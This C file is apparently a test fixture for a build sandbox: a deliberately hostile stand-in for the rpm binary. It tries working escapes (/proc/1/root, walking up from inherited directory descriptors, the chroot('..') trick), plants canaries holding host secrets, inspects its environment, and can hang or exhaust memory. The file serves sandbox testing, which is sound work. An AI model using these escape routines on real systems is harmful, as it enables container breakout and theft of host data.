/*
 * A hostile rpm: the program a base ships as /usr/bin/rpm (or a build host
 * has first on PATH), compiled static by tests/e2e/hostile/sandbox.rs.
 *
 * MODE "escape": tries every way out it knows of, in turn, and where it gets
 * out plants a canary file named nodeimg-escape-TOKEN holding a host file's
 * bytes (the test's host-secret):
 *   - guessed host paths as they are (/tmp, /var/tmp, /root, /home, /work,
 *     /dev/shm, /run, and the test's /tmp/nodeimg-e2e-sandbox-TOKEN-*);
 *   - the same below /proc/1/root;
 *   - every inherited descriptor 3..1023 that is a folder: fchdir to it,
 *     then `..` up to its root;
 *   - the chroot("..") escape: chroot into a new folder while the working
 *     folder stays outside, `..` up, chroot(".").
 * It first reports what it sees: its uid map, its pid, its open
 * descriptors, /proc/1's command, the network interfaces.
 * MODE "hang": never ends. MODE "memory": allocates and touches 1 GiB.
 *
 * It ends with one line on stderr ("hostile-rpm: ...") and exit status 1.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

#ifndef TOKEN
#error "compile with -DTOKEN=\"...\""
#endif
/* The test's own temp folder, found by name. */
#define PREFIX "nodeimg-e2e-sandbox-" TOKEN "-"
#ifndef MODE
#define MODE "escape"
#endif

static char report[16384];
static int planted;

static void note(const char *fmt, ...) {
    size_t n = strlen(report);
    if (n + 2 >= sizeof report)
        return;
    va_list ap;
    va_start(ap, fmt);
    vsnprintf(report + n, sizeof report - n, fmt, ap);
    va_end(ap);
}

/* The first line of `path`, blanks squeezed to one space. */
static void first_line(const char *path, char *buf, size_t cap) {
    char raw[4096];
    buf[0] = 0;
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t n = read(fd, raw, sizeof raw - 1);
    close(fd);
    if (n <= 0)
        return;
    raw[n] = 0;
    size_t o = 0;
    int blank = 1;
    for (char *p = raw; *p && *p != '\n' && o + 1 < cap; p++) {
        char c = (*p == '\t' || *p == ' ' || *p == 0) ? ' ' : *p;
        if (c == ' ') {
            if (!blank)
                buf[o++] = ' ';
            blank = 1;
        } else {
            buf[o++] = c;
            blank = 0;
        }
    }
    while (o > 0 && buf[o - 1] == ' ')
        o--;
    buf[o] = 0;
}

/* The canary in ROOT+DIR (appended to), with the bytes of
   ROOT+DIR/host-secret. */
static void plant(const char *root, const char *dir, const char *how) {
    char path[4096], sp[4096], secret[512];
    snprintf(path, sizeof path, "%s%s/nodeimg-escape-%s", root, dir, TOKEN);
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND | O_NOFOLLOW | O_CLOEXEC, 0644);
    if (fd < 0)
        return;
    snprintf(sp, sizeof sp, "%s%s/host-secret", root, dir);
    first_line(sp, secret, sizeof secret);
    dprintf(fd, "escaped via %s\nsecret: %s\n", how, secret);
    close(fd);
    planted++;
    note(" planted(%s %s%s secret=%s)", how, root, dir, secret);
}

static void plant_all(const char *root, const char *how) {
    static const char *dirs[] = {"/tmp", "/var/tmp", "/root", "/home", "/work", "/dev/shm", "/run", NULL};
    for (int i = 0; dirs[i]; i++)
        plant(root, dirs[i], how);
    static const char *scan[] = {"/tmp", "/var/tmp", NULL};
    for (int i = 0; scan[i]; i++) {
        char d[4096];
        snprintf(d, sizeof d, "%s%s", root, scan[i]);
        DIR *dp = opendir(d);
        if (!dp)
            continue;
        struct dirent *e;
        while ((e = readdir(dp))) {
            if (strncmp(e->d_name, PREFIX, strlen(PREFIX)) == 0) {
                char sub[4096];
                snprintf(sub, sizeof sub, "%s/%s", scan[i], e->d_name);
                plant(root, sub, how);
            }
        }
        closedir(dp);
    }
}

static void view(void) {
    char buf[512];
    first_line("/proc/self/uid_map", buf, sizeof buf);
    note(" uid_map=[%s]", buf);
    note(" uid=%d pid=%d", (int)getuid(), (int)getpid());
    first_line("/proc/1/comm", buf, sizeof buf);
    note(" pid1=[%s]", buf);
    note(" fds=[");
    int first = 1;
    for (int fd = 3; fd < 1024; fd++) {
        if (fcntl(fd, F_GETFD) != -1) {
            note(first ? "%d" : ",%d", fd);
            first = 0;
        }
    }
    note("]");
    note(" ifaces=[");
    DIR *dp = opendir("/sys/class/net");
    int n = 0;
    if (dp) {
        struct dirent *e;
        while ((e = readdir(dp)))
            if (e->d_name[0] != '.')
                note(n++ ? ",%s" : "%s", e->d_name);
        closedir(dp);
    } else {
        /* No /sys: the interfaces /proc/net/dev lists. */
        FILE *f = fopen("/proc/net/dev", "r");
        char line[512];
        int row = 0;
        while (f && fgets(line, sizeof line, f)) {
            if (row++ < 2)
                continue;
            char *c = strchr(line, ':');
            if (!c)
                continue;
            *c = 0;
            char *name = line;
            while (*name == ' ')
                name++;
            note(n++ ? ",%s" : "%s", name);
        }
        if (f)
            fclose(f);
    }
    note("]");
}

static void escape(void) {
    /* Guessed host paths, as they are. */
    plant_all("", "path");
    /* Through pid 1's root. */
    plant_all("/proc/1/root", "proc1");
    /* Inherited descriptors. */
    for (int fd = 3; fd < 1024; fd++) {
        struct stat st;
        if (fstat(fd, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode) && fchdir(fd) == 0) {
            for (int i = 0; i < 256; i++)
                if (chdir("..") != 0)
                    break;
            char how[32];
            snprintf(how, sizeof how, "fd%d", fd);
            plant_all(".", how);
        }
        if (chdir("/") != 0)
            note(" chdir(/):%s", strerror(errno));
    }
    /* The chroot("..") escape. */
    if (chdir("/") != 0)
        note(" chdir(/):%s", strerror(errno));
    char jail[64];
    snprintf(jail, sizeof jail, "/.escape-%d", (int)getpid());
    if (mkdir(jail, 0700) != 0 && errno != EEXIST) {
        snprintf(jail, sizeof jail, "/tmp/.escape-%d", (int)getpid());
        if (mkdir(jail, 0700) != 0 && errno != EEXIST)
            note(" mkdir:%s", strerror(errno));
    }
    if (chroot(jail) == 0) {
        for (int i = 0; i < 256; i++)
            if (chdir("..") != 0)
                break;
        if (chroot(".") == 0)
            plant_all("", "chroot");
        else
            note(" chroot(.):%s", strerror(errno));
    } else {
        note(" chroot:%s", strerror(errno));
    }
}

int main(void) {
    view();
    if (strcmp(MODE, "hang") == 0) {
        fprintf(stderr, "hostile-rpm: hanging\n");
        for (;;)
            pause();
    }
    if (strcmp(MODE, "memory") == 0) {
        size_t size = (size_t)1 << 30;
        char *p = malloc(size);
        if (p) {
            memset(p, 1, size);
            note(" memory: allocated 1024 MiB (%d)", p[size - 1]);
        } else {
            note(" memory: refused");
        }
    } else {
        escape();
    }
    fprintf(stderr, "hostile-rpm: token=%s planted=%d%s\n", TOKEN, planted, report);
    return 1;
}
